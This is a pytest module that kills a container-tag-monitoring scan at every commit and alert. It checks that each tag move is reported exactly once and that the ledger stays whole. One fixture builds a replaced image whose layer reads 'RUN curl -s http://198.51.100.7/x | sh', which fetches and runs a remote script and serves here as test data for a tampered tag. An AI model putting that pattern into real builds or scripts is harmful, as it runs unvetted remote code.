"""A scan that dies at each of its commits, and at each alert: what is lost, and what is told twice.

The second night of a small estate: three tags move, one immutable tag is replaced, one that nobody
names is deleted; Slack and a webhook are told. For every k the scan dies right after its k-th
commit, when its k-th alert was taken and not answered, and when it was answered and not settled.
Two scans run to their end after each.

A move is told by a message that arrived, or else by the report of a scan that ended after the kill,
or it stands in a message that is listed as one that may not have arrived.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import shutil
import signal
import sqlite3
from collections import Counter
from collections.abc import AsyncIterator, Collection, Mapping
from contextlib import asynccontextmanager, closing
from dataclasses import dataclass, field
from enum import StrEnum
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from tagwatch.service.demo.images import Built, Shelf, Step, build
from tagwatch.service.demo.show import serving
from tests.fault.dying import KILLED
from tests.paths import TESTS
from tests.program import child as program

DYING = TESTS / "fault" / "dying.py"
SHOP = "registry.shop.example/shop"
MOVES = frozenset({f"{SHOP}/app:1", f"{SHOP}/app:edge", f"{SHOP}/web:2", f"{SHOP}/web:2.0.0"})
DELETED = f"{SHOP}/db:old"
CHANNELS = ("slack", "webhook")
KEPT = ("PATH", "PYTHON", "LANG", "LC_", "SSL_CERT_")
SCAN = ("scan", "--format", "json")
FILES = {
    "Dockerfile": "".join(f"FROM {name}\n" for name in (*sorted(MOVES), f"{SHOP}/db:3")),
    # only moves are news here: findings that name a tag would tell of it in other words
    "policy.yaml": "version: 1\ntags: {immutable: ['^\\d+\\.\\d+\\.\\d+$']}\nrules:\n"
    '  tag-replaced: {severity: "off"}\n  tag-moving: {severity: "off"}\n'
    '  cooldown: {severity: "off"}\n  base-behind: {severity: "off"}\n',
    "tagwatch.yaml": "version: 1\nproject: shop\ndatabase: tagwatch.db\nsources: [Dockerfile]\n"
    f"watch: [{{image: {SHOP}/db, tags: ['*']}}]\npolicy: policy.yaml\nreports: {{formats: []}}\n"
    "registries:\n  registry.shop.example: {endpoint: 'REGISTRY', credential: anonymous}\n"
    "alerts:\n  slack: {webhook_env: SLACK, allow_http: true, min_severity: note}\n"
    "  webhook: {url_env: WEBHOOK, allow_http: true, min_severity: note}\n",
}
pytestmark = pytest.mark.timeout(900)  # some seventy scans, made for the first test


class Phase(StrEnum):
    """How far the scan had come when it died."""

    BEGUN = "no move is stored"
    STORED = "moves are stored, and none is explained"
    EXPLAINED = "moves are explained, and the run is not finished"
    FINISHED = "the run is finished, and an alert waits"
    CLAIMED = "an alert is claimed, and not sent"
    TAKEN = "an alert is taken, and not answered"
    ANSWERED = "an alert is answered, and not settled"
    SENT = "every alert is settled"
    ALIVE = "it lived"


@dataclass(frozen=True, kw_only=True)
class Kill:
    """Where the scan is to die: right after a commit, or at an alert."""

    commit: int = 0
    alert: int = 0
    at: Phase | None = None

    def __str__(self) -> str:
        return f"alert {self.alert}: {self.at}" if self.alert else f"commit {self.commit}"


@dataclass(frozen=True, kw_only=True)
class Outcome:
    """What a kill led to. `messages` and `reports`: by whom told, the killed scan being 0.

    `unsure`: messages that are listed as ones that may not have arrived.
    """

    kill: Kill
    phase: Phase
    acknowledged: frozenset[Any]
    deletion_stored: bool
    at_the_end: frozenset[Any]
    explained: frozenset[Any]
    check: tuple[int, str]
    messages: tuple[tuple[int, str, Mapping[str, Any]], ...]
    unsure: tuple[tuple[str, Mapping[str, Any]], ...]
    reports: Mapping[int, Mapping[str, Any]]

    def tellings(self, move: str, channel: str) -> Collection[int]:
        """Return the scans that told of a move, on the channel or in a report: one should have."""
        arrived = [
            scan for scan, to, message in self.messages if to == channel and move in moved(message)
        ]
        reported = [
            scan
            for scan, report in self.reports.items()
            for one in report["changes"]
            if f"{one['repository']}:{one['tag']}" == move
        ]
        twice = [one for told in (arrived, reported) for one in told[1:]]
        told = [*sorted({*arrived, *reported}), *twice]
        listed = any(to == channel and move in moved(one) for to, one in self.unsure)
        return told or [0] * listed

    def reports_of(self, deleted: str) -> list[int]:
        """Return the scans whose report told of a deletion."""
        return [
            scan
            for scan, report in self.reports.items()
            for one in report["gone"]
            if f"{one['repository']}:{one['tag']}" == deleted
        ]


def moved(message: Mapping[str, Any]) -> frozenset[str]:
    """The tags that a message says have moved, in either channel's form."""
    if "groups" in message:
        groups = [one for one in message["groups"] if one["title"] == "Tags that moved"]
        return frozenset(line["name"] for group in groups for line in group["lines"])
    sections = [one["text"]["text"] for one in message["blocks"] if one["type"] == "section"]
    about = "".join(text for text in sections if text.startswith("*Tags that moved*"))
    return frozenset(re.findall(r"^:\w+: `([^`]+)`", about, re.MULTILINE))


# The estate


def image(name: str, version: str, *steps: Step) -> Built:
    root = Step(created_by="ADD rootfs /", content=name)
    copied = Step(created_by=f"COPY {name} /", content=f"{name} {version}")
    return build(None, [root, copied, *steps], day="2026-08-16")


def first_night() -> Shelf:
    shelf = Shelf()
    for name, tags, version in (
        ("app", ("1", "1.0.0"), "1.0.0"),
        ("app", ("edge",), "one"),
        ("web", ("2", "2.0.0"), "2.0.0"),
        ("db", ("3", "3.0.0"), "3.0.0"),
        ("db", ("old",), "0"),
    ):
        shelf.push(f"shop/{name}", tags, [image(name, version)], "2026-08-16")
    return shelf


def second_night(shelf: Shelf) -> None:
    for name, tags, version in (
        ("app", ("1", "1.0.1"), "1.0.1"),
        ("app", ("edge",), "two"),
        ("web", ("2", "2.0.1"), "2.0.1"),
    ):
        shelf.push(f"shop/{name}", tags, [image(name, version)], "2026-08-17")
    more = Step(created_by="RUN curl -s http://198.51.100.7/x | sh", content="x")
    shelf.push("shop/web", ("2.0.0",), [image("web", "2.0.0", more)], "2026-08-17")
    shelf.delete("shop/db", "old")


# Who kills


@dataclass(slots=True)
class Theatre:
    """Where the program runs, and who takes its alerts."""

    environment: dict[str, str] = field(default_factory=dict)
    scan: int = 0
    kill: Kill = field(default_factory=Kill)
    answered: Path = Path()
    child: asyncio.Future[int] | None = None
    messages: list[tuple[int, str, Mapping[str, Any]]] = field(default_factory=list)
    keys: set[str | None] = field(default_factory=set)

    async def run(self, folder: Path, *arguments: str) -> tuple[int, str]:
        """Run a command to its end, be that violent; its exit code and stdout."""
        self.child = asyncio.get_running_loop().create_future()
        once = self.answered if self.kill.at is Phase.ANSWERED else folder / "never"
        process = await program.start(
            str(DYING),
            str(self.kill.commit),
            str(once),
            *arguments,
            cwd=folder,
            env={**self.environment, "HOME": str(folder), "TAGWATCH_CONFIG": "tagwatch.yaml"},
        )
        self.child.set_result(process.pid)
        out, err = await process.communicate()
        code = KILLED if process.returncode == -signal.SIGKILL else process.returncode
        assert code in (0, 1, KILLED), f"exit code {code}: {err.decode()}"
        return code, out.decode()

    async def take(self, request: web.Request) -> web.Response:
        """Take an alert; where the sender is to die of it, see to that."""
        payload = await request.json()
        key = request.headers.get("webhook-id")
        if key is None or key not in self.keys:  # who has ids takes what has the same one once
            self.messages.append((self.scan, request.match_info["channel"], payload))
        self.keys.add(key)
        if self.scan == 0 and len(self.messages) == self.kill.alert:
            assert self.child is not None
            if self.kill.at is Phase.TAKEN:
                os.kill(await self.child, signal.SIGKILL)
            else:
                self.answered.touch()
        return web.Response()


@asynccontextmanager
async def theatre() -> AsyncIterator[Theatre]:
    """The program, with an address for its alerts."""
    played = Theatre()
    app = web.Application()
    app.router.add_post("/{channel}", played.take)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    try:
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        address = f"http://127.0.0.1:{runner.addresses[0][1]}"
        # Python's own variables as they are everywhere: the commands of all tests share a server
        kept = {one: os.environ[one] for one in os.environ if one.startswith(KEPT)}
        own = {**kept, "TZ": "UTC", "PYTHONWARNINGS": "error"}
        told = {one.upper(): f"{address}/{one}" for one in CHANNELS}
        played.environment = {**own, **told}
        yield played
    finally:
        await runner.cleanup()


async def killed(stage: Theatre, kill: Kill, before: Path, folder: Path) -> Outcome:
    """Let the second night die there, and scan twice to the end."""
    shutil.copytree(before, folder)
    stage.messages.clear()
    stage.keys.clear()
    stage.kill, stage.scan, stage.answered = kill, 0, folder / "answered"
    reports = {}
    code, out = await stage.run(folder, *SCAN)
    if code != KILLED:
        reports[0] = json.loads(out)
    ledger = folder / "tagwatch.db"
    phase = Phase.ALIVE if 0 in reports else kill.at or phase_of(ledger)
    acknowledged = intervals(ledger)
    deletion_stored = not is_open(ledger, DELETED)
    let_leases_run_out(ledger)
    stage.kill = Kill()
    for stage.scan in (1, 2):
        code, out = await stage.run(folder, *SCAN)
        reports[stage.scan] = json.loads(out)
    return Outcome(
        kill=kill,
        phase=phase,
        acknowledged=acknowledged,
        deletion_stored=deletion_stored,
        at_the_end=intervals(ledger),
        explained=verdicts(ledger),
        check=await stage.run(folder, "ledger", "check"),
        messages=tuple(stage.messages),
        unsure=tuple(
            (channel, json.loads(payload))
            for channel, payload in select(
                ledger, "SELECT channel, payload FROM outbox WHERE state = 'unsure'"
            )
        ),
        reports=reports,
    )


BETWEEN = {
    "resolve": ("resolve", *sorted(MOVES), "--refresh"),
    "check": ("check", "Dockerfile"),
}
"""What somebody runs between the night and the scan that tells of it."""


async def killed_between(folder: Path) -> dict[str, Outcome]:
    """Kill these commands everywhere, one after the other, then a scan; by where they died."""
    shelf = first_night()
    outcomes: dict[str, Outcome] = {}
    async with serving(shelf) as registry, theatre() as stage:
        before = folder / "before"
        before.mkdir()
        for name, text in FILES.items():
            text = text.replace("REGISTRY", registry).replace("sources:", "max_age: '0'\nsources:")
            (before / name).write_text(text, encoding="utf-8")
        await stage.run(before, *SCAN)
        second_night(shelf)
        lived: set[str] = set()
        for number in count(1):
            place = folder / f"between-{number}"
            shutil.copytree(before, place)
            stage.scan, stage.answered = 0, folder / "never"
            for name, command in BETWEEN.items():
                stage.kill = Kill(commit=number)
                code, _ = await stage.run(place, *command)
                if code != KILLED:
                    lived.add(name)
            # the scan dies as well, a little later each time
            after = place.with_name(f"{place.name}-scan")
            outcomes[f"commit {number}"] = await killed(
                stage, Kill(commit=2 * number), place, after
            )
            if lived == set(BETWEEN):
                return outcomes
    raise AssertionError("they never lived")


async def every_kill(folder: Path) -> list[Outcome]:
    """Kill the second night everywhere; the last outcome is that of a scan that lived."""
    shelf = first_night()
    async with serving(shelf) as registry, theatre() as stage:
        before = folder / "before"
        before.mkdir()
        for name, text in FILES.items():
            (before / name).write_text(text.replace("REGISTRY", registry), encoding="utf-8")
        await stage.run(before, *SCAN)
        second_night(shelf)
        outcomes = [
            await killed(stage, Kill(alert=alert, at=at), before, folder / f"{alert}-{at.name}")
            for alert in range(1, len(CHANNELS) + 1)
            for at in (Phase.TAKEN, Phase.ANSWERED)
        ]
        for number in count(1):
            kill = Kill(commit=number)
            outcomes.append(await killed(stage, kill, before, folder / str(number)))
            if outcomes[-1].phase is Phase.ALIVE:
                break
        # Snapshots that come together share a commit: a slow machine makes one more or less, and a
        # number may pass by the moment that it was meant for.
        for again in range(12):
            if {outcome.phase for outcome in outcomes} == set(Phase):
                break
            kill = Kill(commit=number - again % 4)
            place = folder / f"again-{again}"
            outcomes.insert(0, await killed(stage, kill, before, place))
    return outcomes


# What the ledger holds


def select(ledger: Path, sql: str) -> list[Any]:
    with closing(sqlite3.connect(ledger)) as connection:
        return connection.execute(sql).fetchall()


_PLACE = (
    "FROM interval i JOIN repository r ON r.id = i.repository_id "
    "JOIN tag t ON t.repository_id = r.id AND t.id = i.tag_id "
    "JOIN digest d ON d.repository_id = r.id AND d.id = i.digest_id"
)


def intervals(ledger: Path) -> frozenset[Any]:
    """What every tag served, in which order."""
    return frozenset(select(ledger, f"SELECT r.path, t.name, i.n, hex(d.bytes) {_PLACE}"))


def verdicts(ledger: Path) -> frozenset[Any]:
    """The same, with what was made of it."""
    columns = "r.path, t.name, i.n, hex(d.bytes), i.version, i.verdict, i.ended_at IS NULL"
    return frozenset(select(ledger, f"SELECT {columns} {_PLACE}"))


def is_open(ledger: Path, name: str) -> bool:
    """True where the tag is there, as far as the ledger knows."""
    opened = select(ledger, f"SELECT r.path, t.name {_PLACE} WHERE i.ended_at IS NULL")
    return name in {f"{SHOP.partition('/')[0]}/{path}:{tag}" for path, tag in opened}


def phase_of(ledger: Path) -> Phase:
    """How far the second night had come by what it left."""
    states = {state for (state,) in select(ledger, "SELECT state FROM outbox")}
    (finished,) = select(
        ledger, "SELECT finished_at IS NOT NULL FROM run WHERE kind = 'scan' ORDER BY id LIMIT 1, 1"
    ) or [(False,)]
    explained = {one for (one,) in select(ledger, "SELECT change IS NOT NULL FROM move")}
    if finished[0]:
        if "sending" in states:
            return Phase.CLAIMED
        return Phase.FINISHED if "pending" in states else Phase.SENT
    if 1 in explained:
        return Phase.EXPLAINED
    return Phase.STORED if explained else Phase.BEGUN


def let_leases_run_out(ledger: Path) -> None:
    """Let ten minutes pass for alerts that were being sent."""
    with closing(sqlite3.connect(ledger)) as connection:
        connection.execute("UPDATE outbox SET claimed_at = claimed_at - 600000000")
        connection.commit()


# The tests


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory) -> list[Outcome]:
    return asyncio.run(every_kill(tmp_path_factory.mktemp("kills")))


def of(outcomes: list[Outcome], phase: Phase) -> list[Outcome]:
    """The kills of a phase: there are some."""
    found = [outcome for outcome in outcomes if outcome.phase is phase]
    assert found, f"nothing died when {phase}"
    return found


def test_nothing_acknowledged_is_lost(outcomes: list[Outcome]) -> None:
    lived = outcomes[-1]
    for outcome in outcomes:
        assert outcome.acknowledged <= outcome.at_the_end, outcome.kill
        assert outcome.explained == lived.explained, outcome.kill


def test_the_ledger_is_whole(outcomes: list[Outcome]) -> None:
    for outcome in outcomes:
        assert outcome.check == (0, "the ledger is whole\n"), outcome.kill


def test_no_alert_is_sent_twice(outcomes: list[Outcome]) -> None:
    for outcome in outcomes:
        sent = Counter((to, json.dumps(message)) for _, to, message in outcome.messages)
        assert set(sent.values()) <= {1}, outcome.kill


@pytest.mark.parametrize("phase", Phase)
def test_each_move_is_told_exactly_once(outcomes: list[Outcome], phase: Phase) -> None:
    wrong = {
        f"{outcome.kill}: {move} on {channel}": told
        for outcome in of(outcomes, phase)
        for move in sorted(MOVES)
        for channel in CHANNELS
        if len(told := outcome.tellings(move, channel)) != 1
    }
    assert wrong == {}


@pytest.mark.parametrize("stored", [False, True], ids=["not stored", "stored"])
def test_a_deletion_is_reported_once_where_the_run_died_unfinished(
    outcomes: list[Outcome], stored: bool
) -> None:
    unfinished = [
        outcome
        for outcome in outcomes
        if outcome.phase in (Phase.BEGUN, Phase.STORED, Phase.EXPLAINED)
        and outcome.deletion_stored is stored
    ]
    assert unfinished
    told = {str(outcome.kill): len(outcome.reports_of(DELETED)) for outcome in unfinished}
    assert set(told.values()) == {1}, told


def test_commands_that_die_between_the_nights_take_nothing_away(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    outcomes = asyncio.run(killed_between(tmp_path_factory.mktemp("between")))
    assert len(outcomes) > 2
    for where, outcome in outcomes.items():
        assert outcome.check == (0, "the ledger is whole\n"), where
        for channel in CHANNELS:
            told = {move: outcome.tellings(move, channel) for move in sorted(MOVES)}
            assert all(len(found) == 1 for found in told.values()), f"{where}, {channel}: {told}"
        if outcome.phase in (Phase.BEGUN, Phase.STORED, Phase.EXPLAINED):
            assert len(outcome.reports_of(DELETED)) == 1, where
